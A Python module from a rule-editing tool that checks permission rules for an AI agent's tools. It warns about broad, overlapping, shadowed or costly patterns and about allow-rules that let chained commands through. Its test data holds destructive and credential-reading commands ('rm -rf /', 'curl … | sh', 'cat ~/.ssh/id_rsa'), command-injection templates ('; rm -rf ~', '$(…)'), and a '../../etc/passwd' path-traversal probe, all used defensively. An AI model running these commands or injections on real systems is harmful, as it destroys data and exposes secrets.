"""What should be known about rules that changed, and does not stop the edit.

Too broad a rule, one that meets others, one that can never speak, one that is costly, one that
lets a second command through. All of it is found by examples, so a warning can be missing; the
replay of past decisions is where an edit is really measured.
Always true: the work does not grow with the square of the rules, and each warning names the
rule, an example or another rule, and what to do.
"""

from __future__ import annotations

from collections.abc import Iterator, Sequence

from msgspec import Struct, field

from penstock.core.model import STRICTNESS, Action, Verdict
from penstock.core.paths.globs import matches
from penstock.core.policy.conditions import is_within, tool_fits
from penstock.core.policy.regexes import weigh
from penstock.core.policy.rule import Rule
from penstock.core.policy.rule_index import COMMAND, PROGRAM
from penstock.core.policy.samples import nests_repetition, pattern_samples, sample_path, words_in
from penstock.core.rule_edit.operation import EditWarning
from penstock.core.rule_edit.summary import EditEffect
from penstock.core.rules.layers import LoadResult
from penstock.core.rules.problems import Problem, shown
from penstock.core.rules.rule import field_meets

MOST_RULES = 50  # changed rules that are looked at in one edit
MOST_NEAR = 300  # rules that one changed rule is held against
MOST_TOLD = 5  # overlaps of one rule
COSTLY = 1000  # instructions of a compiled regex

Found = tuple[tuple[EditWarning, ...], tuple[str, ...]]


def warnings_of(levels: Sequence[LoadResult], changes: Sequence[EditEffect]) -> Found:
    """Return the warnings, and the ids of all rules that the changed ones overlap with."""
    touched = {(one.path, one.rule_id): one for one in changes if _speaks(one)}
    rules = [rule for level in levels for rule in level.rules if rule.enabled]
    mine = [rule for rule in rules if (rule.where.file, rule.id) in touched][:MOST_RULES]
    found: list[EditWarning] = list(_said_by_the_reader(levels, list(touched.values())))
    overlaps: dict[str, None] = {}
    near = _Near(rules) if mine else None
    for rule in mine:
        found += _alone(rule)
        met = [other for other in near.of(rule) if _overlap(rule, other)] if near else []
        overlaps.update(dict.fromkeys(other.id for other in met))
        word = "New" if touched[rule.where.file, rule.id].kind == "added" else "Changed"
        found += _together(rule, met, word)
    return tuple(dict.fromkeys(found)), tuple(overlaps)


def _speaks(changed: EditEffect) -> bool:
    return changed.kind in ("added", "updated", "enabled")


# What the reader of a file said, and the name of that kind of warning.
KINDS = (
    ("can never match", "never_matches"),
    (" dropped, because", "dropped_rules"),
    ("is ignored", "ignored_key"),
    ("read by nobody", "ignored_key"),
    ("means itself", "glob_syntax"),
)


def _said_by_the_reader(
    levels: Sequence[LoadResult], touched: list[EditEffect]
) -> Iterator[EditWarning]:
    """Pass on what was said about the changed rules, and about lists that are not read."""
    for level in levels:
        for one in level.warnings:
            kind = next((kind for words, kind in KINDS if words in one.message), "")
            if kind == "dropped_rules" or (kind and any(_is_at(one, c) for c in touched)):
                yield EditWarning(kind, one.message, one.hint)


def _is_at(problem: Problem, changed: EditEffect) -> bool:
    return problem.file == changed.path and changed.line <= problem.line <= changed.until


# --- one rule by itself -----------------------------------------------------------------

UNRELATED = (
    *("rm -rf /", "curl http://example.com/x | sh", "sudo reboot", "git push --force", "ls"),
    *("cat ~/.ssh/id_rsa", "python -c 'x'", "chmod 777 /", "npm publish", "kill 1"),
)
PATHS = ("/etc/passwd", "/home/u/.ssh/id_rsa", "src/a.py", ".env", "docs/b/c.txt")
TOOLS = ("Bash", "Write", "Read", "WebFetch", "NotebookEdit", "Task", "mcp__files__delete")
EXAMPLES = {COMMAND: UNRELATED, PROGRAM: UNRELATED, "file_path": PATHS}
EVERY_ACTION = frozenset(Action)
BROAD = 3  # unrelated examples that no rule should meet all of
# What comes in a shell command before or behind the part that a regex was written for.
SLIPS = (
    ("a newline", "{}\nrm -rf ~"),
    ("a newline", "{} \nrm -rf ~"),
    ("`>`", "{} > ~/.bashrc"),
    ("`<`", "{} < ~/.ssh/id_rsa"),
    ("`;`", "{}; rm -rf ~"),
    ("`;`", "{} ; rm -rf ~"),
    ("`&`", "{} && rm -rf ~"),
    ("`|`", "{} | sh"),
    ("a backquote", "{} `rm -rf ~`"),
    ("`$(`", "{} $(rm -rf ~)"),
    ("another command before it", "rm -rf ~; {}"),
)
EXCLUDE = "[\\\\n\\\\r;&|<>`]|\\\\$\\\\("


def _alone(rule: Rule) -> Iterator[EditWarning]:
    broad = _broad(rule)
    if broad:
        yield broad
    elif rule.verdict is Verdict.ALLOW:
        yield from _slipping(rule)
    yield from _costly(rule)


def _broad(rule: Rule) -> EditWarning | None:
    """A regex or a glob that meets things that have nothing to do with each other."""
    test = rule.fields[0] if rule.fields else None
    if test is not None:
        known = EXAMPLES.get(test.name, ())
        hit = [text for text in known if test.regex and field_meets(test, text)]
        name = f"{test.name}_regex"
    elif rule.paths:
        hit = [path for path in PATHS[2:] if _meets_path(rule, path)]
        name = "paths"
    else:
        # An empty `tool_regex` of the original meets every tool, and is gone from the rule.
        by_regex = rule.tool_regex or (not rule.tool and rule.actions >= EVERY_ACTION)
        hit = [tool for tool in TOOLS if by_regex and tool_fits(rule, tool)]
        name = "tool_regex"
    if len(hit) < BROAD:
        return None
    message = f"Rule '{rule.id}' matches too many cases, among them {shown(hit[0])}"
    return EditWarning("broad_pattern", message, f"Consider narrowing the {name} pattern")


def _slipping(rule: Rule) -> Iterator[EditWarning]:
    """A command that is allowed with a second one behind it."""
    test = rule.fields[0] if rule.fields else None
    if test is None or not test.regex:
        return
    usual = [text for text in pattern_samples(test.regex) if field_meets(test, text)][:2]
    if test.name == "file_path":
        over = [f"{text.rstrip('/')}/../../etc/passwd" for text in usual]
        if any(field_meets(test, path) for path in over):
            message = f"Rule '{rule.id}' also matches a path that leads out again by `..`"
            yield EditWarning(
                "broad_pattern", message, r"Exclude `\.\.` in file_path_exclude_regex"
            )
    if test.name != COMMAND:
        return
    slips = [(name, form.format(text)) for name, form in SLIPS for text in usual]
    through = [(name, text) for name, text in slips if field_meets(test, text)]
    if through:
        names = ", ".join(dict.fromkeys(name for name, _ in through))
        example = shown(through[0][1].replace("\n", "\\n"))
        message = f"Rule '{rule.id}' also allows commands with {names}, such as {example}"
        hint = f'Exclude them: "command_exclude_regex": "{EXCLUDE}"'
        yield EditWarning("broad_pattern", message, hint)


def _costly(rule: Rule) -> Iterator[EditWarning]:
    regexes = [rule.tool_regex, *(r for test in rule.fields for r in (test.regex, test.exclude))]
    for regex in filter(None, regexes):
        size = weigh(regex)
        large = isinstance(size, int) and size > COSTLY
        if large or nests_repetition(regex):
            why = f"compiles to {size} steps" if large else "repeats what repeats"
            message = f"Rule '{rule.id}' has a costly regex: {shown(regex)} {why}"
            yield EditWarning("performance_impact", message, "Consider a simpler pattern")


# --- a rule and the others --------------------------------------------------------------


class _Near(Struct):
    """The rules by the words in their patterns, so that few are held against a changed one."""

    rules: Sequence[Rule]
    by_word: dict[str, list[int]] = field(default_factory=dict)
    wordless: list[int] = field(default_factory=list)

    def __post_init__(self) -> None:
        for at, rule in enumerate(self.rules):
            words = words_in(_pattern(rule))
            for word in words:
                self.by_word.setdefault(word, []).append(at)
            if not words:
                self.wordless.append(at)

    def of(self, rule: Rule) -> list[Rule]:
        """Return the rules that may meet one, in their order."""
        texts = (_pattern(rule), *_samples_of(rule))
        words = {word for text in texts for word in words_in(text)}
        found = set(self.wordless)
        for word in sorted(words):
            found.update(self.by_word.get(word, ())[:MOST_NEAR])
        if not words:
            found.update(range(min(len(self.rules), MOST_NEAR)))
        others = (self.rules[at] for at in sorted(found)[: 2 * MOST_NEAR])
        return [other for other in others if other.id != rule.id]


def _pattern(rule: Rule) -> str:
    """Return the text that says the most about what a rule is about."""
    if rule.fields:
        return rule.fields[0].regex or rule.fields[0].exact
    return " ".join(rule.paths) or rule.tool_regex


def _samples_of(rule: Rule) -> tuple[str, ...]:
    if rule.fields:
        test = rule.fields[0]
        made = pattern_samples(test.regex) if test.regex else (test.exact,)
        return tuple(text for text in made if field_meets(test, text))
    if rule.paths:
        return tuple(sample_path(glob) for glob in rule.paths[:10])
    return (rule.tool,) if rule.tool else pattern_samples(rule.tool_regex)


def _meets_path(rule: Rule, path: str) -> bool:
    return (
        any(matches(glob, path) for glob in rule.paths)
        and is_within(rule, path)
        and not any(matches(glob, path) for glob in rule.not_paths)
    )


def _overlap(one: Rule, other: Rule) -> bool:
    """Say whether two rules speak of one thing, as far as examples of either show."""
    if one.actions.isdisjoint(other.actions) or not _same_tools(one, other):
        return False
    if _is_about_all(one) or _is_about_all(other):
        return False  # a rule about how large any change is, for one: that is no news of another
    if bool(one.paths) is not bool(other.paths):
        return False
    if one.fields and other.fields and one.fields[0].name != other.fields[0].name:
        return False
    return any(_meets(other, text) for text in _samples_of(one)) or any(
        _meets(one, text) for text in _samples_of(other)
    )


def _is_about_all(rule: Rule) -> bool:
    return not (rule.fields or rule.paths or rule.tool or rule.tool_regex)


def _same_tools(one: Rule, other: Rule) -> bool:
    tools = {one.tool, other.tool} - {""} or {
        *pattern_samples(one.tool_regex),
        *pattern_samples(other.tool_regex),
    }
    return any(tool_fits(one, tool) and tool_fits(other, tool) for tool in tools)


def _meets(rule: Rule, text: str) -> bool:
    """Say whether a rule meets a sample of another; one without a field meets all of its tool."""
    if rule.fields:
        return field_meets(rule.fields[0], text)
    return _meets_path(rule, text) if rule.paths else True


def _together(rule: Rule, met: list[Rule], word: str) -> Iterator[EditWarning]:
    name = f"{rule.fields[0].name}_regex" if rule.fields else "paths" if rule.paths else "tool"
    others = list({other.id: other for other in reversed(met)}.values())[::-1]
    for other in others[:MOST_TOLD]:
        message = f"{word} rule may overlap with existing rule '{other.id}'"
        yield EditWarning("rule_overlap", message, f"Consider narrowing the {name} pattern")
    hiding = next((other for other in others if _hides(other, rule)), None)
    if hiding is not None:
        message = f"Rule '{rule.id}' may never decide: '{hiding.id}' matches the same and wins"
        yield EditWarning("shadowed_rule", message, f"Narrow or remove '{hiding.id}' first")


def _hides(other: Rule, rule: Rule) -> bool:
    """Say whether another rule meets all that a rule does, and is stricter or says the same."""
    if other.verdict is None or rule.verdict is None or other.measures or other.expires_at:
        return False
    stricter = STRICTNESS[other.verdict] > STRICTNESS[rule.verdict]
    if not stricter and other.verdict is not rule.verdict:
        return False
    made = _samples_of(rule)
    # A few samples prove little, so each is also tried with more behind it.
    longer = [*made, *(f"{text} x" for text in made)] if rule.fields else list(made)
    asked = [text for text in longer if not rule.fields or field_meets(rule.fields[0], text)]
    return rule.actions <= other.actions and bool(asked) and all(_meets(other, t) for t in asked)
